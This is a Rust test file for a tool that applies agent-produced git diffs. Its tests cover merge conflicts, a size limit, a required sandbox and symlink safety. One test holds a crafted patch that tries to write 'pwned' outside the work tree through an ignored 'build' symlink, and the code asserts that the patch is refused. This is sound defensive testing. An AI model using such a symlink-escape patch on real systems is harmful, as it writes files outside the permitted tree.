    let applied = apply(&StdGit, &tree, &theirs, three_way, &journal).unwrap();
    assert_eq!((applied.changed, applied.conflicted), (true, vec!["a.txt".to_owned()]));
    assert_eq!(
        std::fs::read_to_string(tree.join("a.txt")).unwrap(),
        "one\n<<<<<<< ours\nTWO-ours\n=======\ntwo-mine\n>>>>>>> theirs\n"
    );
    assert_eq!(std::fs::read_to_string(tree.join("target.txt")).unwrap(), "t2\n");
    assert_eq!(git(&tree, &["status", "--porcelain"]), b"UU a.txt\nM  target.txt\n");
}

#[test]
fn a_diff_over_the_limit_is_cut_off_while_git_writes_it() {
    let dir = tempfile::tempdir().unwrap();
    let (workspace, git_dir) = (dir.path().join("ws"), dir.path().join("b.git"));
    std::fs::create_dir_all(&workspace).unwrap();
    write_tree(&workspace, BASE);
    let base = baseline(&StdGit, &workspace, &git_dir).unwrap();
    // The agent writes 4 MB of text: far more than a pipe holds, and than the limit.
    let line = "x".repeat(99) + "\n";
    std::fs::write(workspace.join("big.txt"), line.repeat(40 * 1024)).unwrap();
    let err = extract(&StdGit, &workspace, &base, 256 << 10).unwrap_err();
    assert_eq!(err.to_string(), "the diff is larger than the limit of 262144 bytes");
    // Nothing of it was left on disk, and under the limit the same workspace extracts.
    let mut left: Vec<String> = std::fs::read_dir(&git_dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .filter(|name| name.starts_with("ash-"))
        .collect();
    left.sort();
    assert_eq!(left, Vec::<String>::new());
    let diff = extract(&StdGit, &workspace, &base, 8 << 20).unwrap();
    assert!(diff.patch.len() > 4_096_000, "{}", diff.patch.len());
    assert_eq!(diff.summary.files.len(), 1);
    // A git that never writes the patch (it failed first) does not leave the reader waiting.
    let err = extract(&Failing, &workspace, &base, 8 << 20).unwrap_err();
    assert_eq!(err.to_string(), "`git add` failed: refused");
    // A git that does not run isolated never touches the workspace.
    let err = extract(&Unisolated, &workspace, &base, 8 << 20).unwrap_err();
    let message = "git over a workspace an agent wrote must run in an isolating sandbox (native \
                   or bwrap), not the plain backend";
    assert_eq!(err.to_string(), message);
    let err = baseline(&Unisolated, &workspace, &dir.path().join("c.git")).unwrap_err();
    assert_eq!(err.to_string(), message);
}

/// Git as the plain backend runs it: not isolated.
struct Unisolated;

impl Git for Unisolated {
    fn run(
        &self,
        _: &Path,
        _: &[String],
        _: &[(String, String)],
        _: &[u8],
    ) -> Result<GitOutput, String> {
        panic!("an unisolated git was run over a workspace")
    }

    fn isolated(&self) -> bool {
        false
    }
}

/// Git that fails every command.
struct Failing;

impl Git for Failing {
    fn run(
        &self,
        _: &Path,
        _: &[String],
        _: &[(String, String)],
        _: &[u8],
    ) -> Result<GitOutput, String> {
        Ok(GitOutput { success: false, stdout: Vec::new(), stderr: b"refused".to_vec() })
    }

    fn isolated(&self) -> bool {
        true
    }
}

#[test]
fn a_patch_cannot_write_below_a_link_in_the_tree_even_three_way() {
    let dir = tempfile::tempdir().unwrap();
    let (tree, outside) = (dir.path().join("tree"), dir.path().join("outside"));
    std::fs::create_dir_all(&tree).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("x"), "original\n").unwrap();
    write_tree(&tree, &[("a.txt", "a\n"), (".gitignore", "build\n")]);
    git(&tree, &["init", "-q"]);
    git(&tree, &["add", "-A"]);
    git(&tree, &["commit", "-qm", "base"]);
    // An untracked (ignored) link out of the tree, as build directories often are.
    std::os::unix::fs::symlink(&outside, tree.join("build")).unwrap();
    let patch = "diff --git a/build/x b/build/x\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/build/x\n@@ -0,0 +1 @@\n+pwned\n";
    for three_way in [false, true] {
        let options = ApplyOptions { check_only: false, three_way };
        let err = apply(&StdGit, &tree, patch.as_bytes(), options, journals()).unwrap_err();
        assert_eq!(
            err.to_string(),
            "patch refused: build/x: `build` is a symlink in the tree; the patch writes below it"
        );
    }
    assert_eq!(std::fs::read_to_string(outside.join("x")).unwrap(), "original\n");
    // A `.git` that is a link is no repository root for --3way: its index is not ours to keep.
    let elsewhere = dir.path().join("repo.git");
    std::fs::rename(tree.join(".git"), &elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, tree.join(".git")).unwrap();
    let options = ApplyOptions { check_only: false, three_way: true };
    let ok_patch = hunk_file("new.txt");
    let err = apply(&StdGit, &tree, ok_patch.as_bytes(), options, journals()).unwrap_err();
    assert!(matches!(err, DiffError::ThreeWayWithoutRepo), "{err}");
}
